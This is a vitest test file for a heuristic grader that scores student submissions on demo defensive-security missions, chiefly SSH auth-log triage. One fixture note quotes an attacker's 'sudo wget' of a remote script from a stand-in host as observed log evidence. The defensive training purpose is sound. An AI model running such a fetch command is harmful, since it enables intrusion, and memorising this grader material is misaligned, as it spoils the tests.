import { describe, expect, it } from "vitest";
import { demoMissionBrief, demoMissionSlugs, studentWork } from "~/testing/demo-missions";
import { answerProblems } from "./checks";
import { heuristicReviewer } from "./heuristic-reviewer";
import { detectInjection } from "./injection";
import { reviewWork } from "./pipeline";
import { HEURISTIC_REVIEWER_LABEL } from "./reviewer-label";
import type { ReviewRequest } from "./work";

const authLog = demoMissionBrief("def-first-shift-auth-log");

const strongWork = studentWork(authLog, {
  notes: {
    1: "The log runs from Mar 11 22:00:03 to Mar 12 06:09:58 UTC. Failures are Failed password and Invalid user; successes are Accepted password and Accepted publickey.",
    2: `Top sources by failed password (grep 'Failed password' auth.log | grep -oE 'from [0-9.]+' | awk '{print $2}' | sort | uniq -c | sort -rn | head -5):
3104 198.51.100.23, 911 203.0.113.77, 402 192.0.2.145, 266 198.51.100.9, 131 203.0.113.5.
198.51.100.23 tried 3 usernames (root, deploy, admin): brute force. 203.0.113.77 tried 644 distinct usernames with at most 2 attempts each: password spraying.`,
    3: "grep 'Accepted' auth.log gives 8 successes. Mar 12 03:14:07 sshd[4711]: Accepted password for deploy from 198.51.100.23 port 52814 after 3,104 failures; the session ran sudo wget http://203.0.113.200/x.sh at 03:15:40.",
    4: "Verdict: confirmed compromise of the deploy account at 03:14:07 UTC. Next steps, in order: preserve /var/log on bastion-01, disable deploy and rotate its keys, block 198.51.100.23, then key-only SSH, MFA and fail2ban. Appendix: every command above, in order.",
  },
  evidence: { 2: ["failures.txt"], 3: ["accepted.log"], 4: ["triage-note.md"] },
  reflection:
    "Distinct users per source IP told brute force from spraying, and following the session by its process ID showed what the account did. Every number in the note comes from a command in the appendix, so the day shift can reproduce the verdict.",
});

const review = (request: ReviewRequest) => reviewWork(request, { reviewer: heuristicReviewer, detectInjection });

describe("heuristicReviewer", () => {
  it("passes strong work on a demo mission, with every score backed by a verbatim quote", async () => {
    const outcome = await review({ mission: authLog, work: strongWork });
    expect(outcome.kind).toBe("scored");
    if (outcome.kind !== "scored") return;
    expect(outcome.passed).toBe(true);
    expect(outcome.tries).toBe(1);
    expect(outcome.flags).toEqual([]);
    for (const criterion of outcome.criteria) {
      expect(criterion.score, criterion.key).toBeGreaterThan(0);
      expect(
        strongWork.subtasks.some((subtask) => subtask.notes.replace(/\s+/gu, " ").includes(criterion.quote)) || strongWork.reflection.includes(criterion.quote),
        criterion.key,
      ).toBe(true);
    }
  });

  it("gives answers the pipeline's checks accept on every demo mission, for full and thin work", async () => {
    for (const slug of demoMissionSlugs()) {
      const mission = demoMissionBrief(slug);
      for (const work of [strongWork, studentWork(mission, { notes: { 1: "Done, see the files." }, reflection: "I did the mission and attached everything it asked for." })]) {
        const { answer } = await heuristicReviewer.review(
          { mission, work: { ...work, subtasks: work.subtasks.filter((subtask) => subtask.position <= mission.subtasks.length) } },
          {},
        );
        expect(
          answer.criteria.map((entry) => entry.key),
          slug,
        ).toEqual(mission.rubric.map((criterion) => criterion.key));
        expect(answerProblems(answer, mission.rubric, work), slug).toEqual([]);
      }
    }
  });

  it("names the facts it used and says what it is", async () => {
    const { answer } = await heuristicReviewer.review({ mission: authLog, work: strongWork }, {});
    for (const entry of answer.criteria) {
      expect(entry.justification).toMatch(/terms from this criterion appear in the work/u);
      expect(entry.justification).toMatch(/concrete details \(.*IP addresses.*\)/u);
      expect(entry.justification).toMatch(/evidence on 3 of 3 steps that ask for it/u);
    }
    expect(answer.summary.toLowerCase()).toContain(HEURISTIC_REVIEWER_LABEL.toLowerCase());
    expect(heuristicReviewer).toMatchObject({ name: "heuristic", kind: "heuristic" });
  });

  it("is deterministic", async () => {
    const first = await heuristicReviewer.review({ mission: authLog, work: strongWork }, {});
    const second = await heuristicReviewer.review({ mission: authLog, work: structuredClone(strongWork) }, {});
    expect(second).toEqual(first);
  });

  it("never passes empty-ish work: scores of 0 or 1 and a note saying why", async () => {
    const work = studentWork(authLog, {
      notes: { 2: "done", 3: "see file", 4: "see file" },
      evidence: { 2: ["a.png"], 3: ["b.png"], 4: ["c.png"] },
      reflection: "I did the mission and attached my files, it was a good mission.",
    });
    const outcome = await review({ mission: authLog, work });
    expect(outcome.kind === "scored" && outcome.passed).toBe(false);
    if (outcome.kind !== "scored") return;
    for (const criterion of outcome.criteria) expect(criterion.score).toBeLessThanOrEqual(1);
    expect(outcome.flags.map((flag) => flag.code)).toContain("note");
  });

  it("flags work about something else as off-topic, on every demo mission, and never passes it", async () => {
    const essay = {
      notes: {
        1: "I read about the history of the Port of Felixstowe, which opened in 1875 and is now the busiest container port in Britain.",
        2: "Container ships are measured in TEU, twenty-foot equivalent units. The largest ships carry more than 24,000 TEU and are longer than four football pitches.",
        3: "Cranes at modern terminals are often remote controlled from an office, and some terminals are fully automated, like Maasvlakte II in Rotterdam.",
      },
      reflection: "I found the shipping industry fascinating, especially how big the ships have become and how much of the world's trade passes through a few ports.",
    };
    for (const slug of demoMissionSlugs()) {
      const mission = demoMissionBrief(slug);
      const evidence = Object.fromEntries(mission.subtasks.filter((subtask) => subtask.evidenceRequired).map((subtask) => [subtask.position, [`step-${subtask.position}.pdf`]]));
      const outcome = await review({ mission, work: studentWork(mission, { ...essay, evidence }) });
      expect(outcome.kind === "scored" && outcome.passed, slug).toBe(false);
      expect(
        outcome.flags.find((flag) => flag.code === "off_topic"),
        slug,
      ).toMatchObject({ blocking: true });
      if (outcome.kind === "scored") expect(outcome.total, slug).toBe(0);
    }
  });

  it("flags a step that asks for evidence and has none, and keeps the work from passing", async () => {
    const work = { ...strongWork, subtasks: strongWork.subtasks.map((subtask) => (subtask.position === 3 ? { ...subtask, evidence: [] } : subtask)) };
    const outcome = await review({ mission: authLog, work });
    expect(outcome.kind === "scored" && outcome.passed).toBe(false);
    expect(outcome.flags.find((flag) => flag.code === "missing_evidence")?.message).toBe("No evidence is attached to step 3, which asks for it.");
  });

  it("scores fuller, more specific work higher than thin work on the same mission", async () => {
    const thin = studentWork(authLog, {
      notes: {
        2: "Many failed logins from 198.51.100.23, probably brute force.",
        3: "deploy logged in from the same IP at 03:14.",
        4: "Verdict: suspicious. Reset the password and block the IP.",
      },
      evidence: { 2: ["failures.txt"], 3: ["accepted.log"], 4: ["triage-note.md"] },
      reflection: "I practised grep on an SSH auth log and found a successful login after many failures from one source.",
    });
    const total = async (work: typeof thin) => {
      const outcome = await review({ mission: authLog, work });
      return outcome.kind === "scored" ? outcome.total : Number.NaN;
    };
    expect(await total(thin)).toBeLessThan(await total(strongWork));
  });
});
